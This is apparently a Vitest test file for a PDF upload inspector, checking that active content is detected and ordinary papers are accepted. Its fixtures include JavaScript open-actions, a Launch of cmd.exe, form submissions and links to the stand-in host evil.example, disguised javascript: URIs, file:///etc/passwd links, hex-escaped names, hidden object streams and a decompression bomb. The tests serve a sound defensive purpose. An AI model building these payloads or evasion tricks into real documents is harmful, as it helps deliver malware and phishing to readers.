// Runs in a process of its own, as its worker does: how mupdf prints is set before it is read the first time.
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { pdfOf, type PdfShape } from '../../../../test/pdfs.ts'
import { sampleFile } from '../../../../test/uploads.ts'
import { inspectPdf } from './inspect-pdf.server.ts'

/** What only leads to the entry that counts. */
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`
const annotation = (entries: string): PdfShape => ({ page: `/Annots[5 0 R]`, objects: [`<</Type/Annot${entries}>>`] })
const file = { entries: '/Type/Metadata', stream: 'MZ' }

const active: [name: string, entry: string, shape: PdfShape][] = [
  ['a script when it opens', 'OpenAction', { catalog: '/OpenAction 5 0 R', objects: [script] }],
  ['an action when it opens, written in place', 'OpenAction', { catalog: `/OpenAction${script}` }],
  ['a link that it opens itself', 'OpenAction', { catalog: '/OpenAction<</S/URI/URI(https://evil.example)>>' }],
  [
    'a place and then a link',
    'OpenAction',
    { catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>', objects: ['<</S/URI>>'] },
  ],
  ['scripts by name', 'JavaScript', { catalog: '/Names<</JavaScript<</Names[(a)5 0 R]>>>>', objects: ['<<>>'] }],
  ['a script in a link', 'S', { page: link('<</S/JavaScript>>') }],
  ['code without an action', 'JS', { objects: ['<</JS(app.alert\\(1\\))>>'] }],
  ['code in a stream', 'JS', { objects: ['<</JS 6 0 R>>', { entries: '', stream: 'app.alert(1)' }] }],
  ['a program', 'S', { page: link('<</S/Launch/F(cmd.exe)>>') }],
  ['another file', 'S', { page: link('<</S/GoToR/F(\\\\\\\\host\\\\share)/D[0/Fit]>>') }],
  ['a file in it', 'S', { page: link('<</S/GoToE/D[0/Fit]>>') }],
  ['a form that is sent', 'S', { page: link('<</S/SubmitForm/F(https://evil.example)>>') }],
  ['data that is fetched', 'S', { page: link('<</S/ImportData/F(data.fdf)>>') }],
  ['a film that is played', 'S', { page: link('<</S/Rendition/OP 0>>') }],
  ['actions of the document', 'AA', { catalog: '/AA<</WC 5 0 R>>', objects: ['<</S/URI/URI(https://evil.example)>>'] }],
  ['actions of a page', 'AA', { page: '/AA<</O<</S/Named/N/Print>>>>' }],
  ['actions of a field', 'AA', annotation('/Subtype/Widget/FT/Tx/T(a)/AA<</K<</S/Hide/T(a)>>>>')],
  ['attached files', 'EmbeddedFiles', { catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }],
  ['a file of a filespec', 'EF', { objects: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', file] }],
  ['a file of a Unicode filespec', 'EF', { objects: ['<</UF(a.exe)/EF 6 0 R>>', '<</UF 7 0 R>>', file] }],
  ['an embedded file', 'Type', { objects: [{ entries: '/Type/EmbeddedFile', stream: 'MZ' }] }],
  ['a scene', 'Type', { objects: ['<</Type/3D>>'] }],
  ['a file as a note', 'Subtype', annotation('/Subtype/FileAttachment/Rect[0 0 9 9]')],
  ['rich media', 'Subtype', annotation('/Subtype/RichMedia/Rect[0 0 9 9]')],
  ['the content of rich media', 'RichMediaContent', { objects: ['<</RichMediaContent<<>>>>'] }],
  ['a film', 'Subtype', annotation('/Subtype/Screen/Rect[0 0 9 9]')],
  ['a scene that runs a script', 'OnInstantiate', { objects: ['<</OnInstantiate 4 0 R>>'] }],
  ['a form of XFA', 'XFA', { catalog: '/AcroForm<</Fields[]/XFA 5 0 R>>', objects: ['<<>>'] }],
  ['a link that is a script', 'URI', { page: link('<</S/URI/URI(javascript:alert\\(1\\))>>') }],
  ['a link that is a script, in disguise', 'URI', { page: link('<</S/URI/URI(\\t JaVaScript:alert\\(1\\))>>') }],
  ['a link to a file', 'URI', { page: link('<</S/URI/URI(file:///etc/passwd)>>') }],
  ['links that begin with a script', 'Base', { catalog: '/URI<</Base(javascript:)>>' }],
  ['a stream that is another file', 'F', { objects: [{ entries: '/F(/etc/passwd)', stream: '' }] }],
  ['PostScript', 'Subtype', { objects: [{ entries: '/Type/XObject/Subtype/PS', stream: '' }] }],
]

/** Every second letter of every name as #xx, as in `/J#61v#61S#63r#69p#74`. */
const disguised = (text: string) =>
  text.replaceAll(
    /\/(\w+)/g,
    (_, name: string) => `/${Array.from(name, (letter, at) => (at % 2 ? hex(letter) : letter)).join('')}`,
  )
const hex = (letter: string) => `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}`
const disguise = ({ catalog = '', page = '', objects = [] }: PdfShape): PdfShape => ({
  catalog: disguised(catalog),
  page: disguised(page),
  objects: objects.map((object) =>
    typeof object === 'string' ? disguised(object) : { ...object, entries: disguised(object.entries) },
  ),
})

test.each(active)('%s is found (%s), plain, compressed, and in disguise', (name, entry, shape) => {
  expect(inspectPdf(pdfOf(shape))).toMatch(/^an active name$|^active content: /)
  // The entries of a stream itself are never compressed.
  const found = name === 'an embedded file' ? 'an active name' : `active content: ${entry}`
  expect(inspectPdf(pdfOf({ ...shape, as: 'compressed' }))).toBe(found)
  expect(inspectPdf(pdfOf({ ...disguise(shape), as: 'compressed' }))).toBe(found)
})

const form = `/AcroForm<</Fields[5 0 R]/NeedAppearances true/DR<</Font<</Helv 6 0 R>>>>/DA(/Helv 0 Tf)>>`
const field = '<</Type/Annot/Subtype/Widget/FT/Tx/T(Company)/V(Cedar)/Rect[0 0 99 9]>>'
const helvetica = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'

const ordinary: [name: string, shape: PdfShape][] = [
  ['nothing more', {}],
  ['a form', { catalog: form, page: '/Annots[5 0 R]', objects: [field, helvetica] }],
  ['a place where it opens', { catalog: '/OpenAction[3 0 R/XYZ null null 0]' }],
  ['a place where it opens, as an action', { catalog: '/OpenAction 5 0 R', objects: ['<</S/GoTo/D[3 0 R/Fit]>>'] }],
  ['a link to a site', { page: link('<</S/URI/URI(https://www.sos.wa.gov/corps)>>') }],
  ['a link to an email address', { page: link('<</S/URI/URI(mailto:corps@sos.wa.gov)>>') }],
  ['a link without a scheme', { page: link('<</S/URI/URI(sos.wa.gov:443/corps)>>') }],
  ['a link to a page', { page: link('<</S/GoTo/D[3 0 R/Fit]>>') }],
  ['a button that goes on', { page: link('<</S/Named/N/NextPage>>') }],
  ['a button that empties the form', { page: link('<</S/ResetForm>>') }],
  ['fonts named as actions are', { page: '/Resources<</Font<</AA 5 0 R/JS 5 0 R/EF 5 0 R>>>>', objects: [helvetica] }],
  [
    'an outline',
    {
      catalog: '/Outlines 5 0 R',
      objects: ['<</First 6 0 R/Last 6 0 R/Count 1>>', '<</Title(JS)/Parent 5 0 R/Dest[3 0 R/Fit]>>'],
    },
  ],
  [
    'tags',
    { catalog: '/StructTreeRoot 5 0 R/MarkInfo<</Marked true>>', objects: ['<</K<</S/Document/K<</S/Sect>>>>>>'] },
  ],
  [
    'facts of its own',
    { catalog: '/Metadata 5 0 R', objects: [{ entries: '/Type/Metadata/Subtype/XML', stream: '<x/>' }] },
  ],
  ['an object that refers to itself', { objects: ['<</Kids[5 0 R]/Parent 6 0 R>>', '<</Parent 5 0 R>>'] }],
  ['an object that is missing', { catalog: '/PageLabels 99 0 R' }],
]

test.each(ordinary)('a paper with %s is taken', (_, shape) => {
  expect(inspectPdf(pdfOf(shape))).toBeUndefined()
  expect(inspectPdf(pdfOf({ ...shape, as: 'compressed' }))).toBeUndefined()
  expect(inspectPdf(pdfOf({ ...shape, as: 'linearized' }))).toBeUndefined()
})

/** A second revision: `body` replaces object `number`, and the table before it stays. */
function revised(pdf: Buffer, number: number, body: string): Buffer {
  const before = /startxref\n(\d+)\n%%EOF\n$/.exec(pdf.toString('latin1'))?.[1]
  const object = `${number} 0 obj\n${body}\nendobj\n`
  const row = `${String(pdf.length).padStart(10, '0')} 00000 n \n`
  const table = `xref\n${number} 1\n${row}trailer\n<</Size 99/Root 1 0 R/Prev ${before}>>\n`
  return Buffer.concat([pdf, Buffer.from(`${object}${table}startxref\n${pdf.length + object.length}\n%%EOF\n`)])
}

test('later revisions of a paper are read as well', () => {
  expect(inspectPdf(revised(pdfOf(), 3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'))).toBeUndefined()
  expect(inspectPdf(revised(pdfOf(), 3, `<</Type/Page/Parent 2 0 R/AA<</O<</S/Hide>>>>>>`))).toBe('active content: AA')
  const first = pdfOf({ as: 'compressed', catalog: `/Names<</JavaScript 5 0 R>>`, objects: ['<<>>'] })
  expect(inspectPdf(revised(first, 1, '<</Type/Catalog/Pages 2 0 R>>'))).toBe('an active name in compressed objects')
})

test.each(['annual-report-calendar-2027.pdf', 'ein-worksheet.pdf', 'washington-llc-formation-checklist.pdf'])(
  'our own %s is taken',
  (name) => {
    expect(inspectPdf(sampleFile(name))).toBeUndefined()
  },
)

const without = (pdf: Buffer, part: RegExp, by = '') => Buffer.from(pdf.toString('latin1').replace(part, by), 'latin1')
const nested = (open: string, close: string) => ({ objects: [open.repeat(200_000) + close.repeat(200_000)] })
const hidden = (entries: string, stream: Buffer | string) => ({
  objects: [{ entries: `/Type/ObjStm${entries}`, stream }],
})
const evil = deflateSync('5 0 <</S/JavaScript>>')

const broken: [name: string, bytes: Buffer, reason: RegExp][] = [
  ['a password', pdfOf({ trailer: '/Encrypt 5 0 R', objects: ['<</Filter/Standard>>'] }), /^an active name$/],
  ['a password, in disguise', pdfOf({ trailer: '/Encryp#74 5 0 R', objects: ['<<>>'] }), /^an active name$/],
  ['no start of its table', without(pdfOf(), /startxref\n\d+/, 'startxref\n7'), /error|repair|damaged/],
  ['no table', without(pdfOf(), /xref[^]*(?=%%EOF)/), /error|repair|damaged/],
  ['tables that lead in a circle', without(pdfOf(), /trailer\n<</, 'trailer\n<</Prev 400'), /error|repair|damaged/],
  [
    'offsets that lead elsewhere',
    without(pdfOf(), /\n00000000\d\d 00000 n/, '\n0000000003 00000 n'),
    /error|repair|damaged/,
  ],
  ['no catalog', without(pdfOf(), /Root 1/, 'Root 9'), /no catalog/],
  ['an object that cannot be read', pdfOf({ objects: ['<</A ]] ('] }), /syntax error/],
  ['an object that is itself', pdfOf({ objects: ['5 0 R'] }), /an object that is a reference/],
  ['objects that are each other', pdfOf({ objects: ['6 0 R', '5 0 R'] }), /an object that is a reference/],
  ['a list in a list, without end', pdfOf(nested('[', ']')), /stack overflow/],
  ['a dictionary in a dictionary, without end', pdfOf(nested('<</A', '>>')), /stack overflow/],
  [
    'objects in two compressions',
    pdfOf(hidden('/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', evil.toString('hex'))),
    /unusual/,
  ],
  [
    'objects behind a predictor',
    pdfOf(hidden('/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>', evil)),
    /unusual/,
  ],
  ['objects that nothing refers to', pdfOf(hidden('/N 1/First 4/Filter/FlateDecode', evil)), /in compressed objects/],
  [
    'objects by no name',
    pdfOf({ objects: [{ entries: '/N 1/First 4/Filter/FlateDecode', stream: evil }] }),
    /in compressed objects/,
  ],
  ['objects that do not unpack', pdfOf(hidden('/N 1/First 4/Filter/FlateDecode', 'no zlib')), /incorrect header/],
  [
    'a bomb of objects',
    pdfOf(hidden('/N 0/First 0/Filter/FlateDecode', deflateSync(Buffer.alloc(17 * 1024 * 1024, ' ')))),
    /larger than|maxOutputLength/,
  ],
  ['half its bytes', pdfOf().subarray(0, 300), /./],
  ['no bytes', Buffer.alloc(0), /./],
]

test.each(broken)('a paper with %s is refused', (_, bytes, reason) => {
  expect(inspectPdf(bytes)).toMatch(reason)
})

test('what one paper was refused for is not held against the next', () => {
  expect(inspectPdf(pdfOf({ objects: ['<</A ]] ('] }))).toBeTruthy()
  expect(inspectPdf(pdfOf())).toBeUndefined()
})

test('the compressed papers of these tests are compressed', () => {
  const text = pdfOf({ as: 'compressed', catalog: '/Names<<>>' }).toString('latin1')
  expect(text).toContain('/ObjStm')
  expect(text).not.toContain('/Catalog')
})
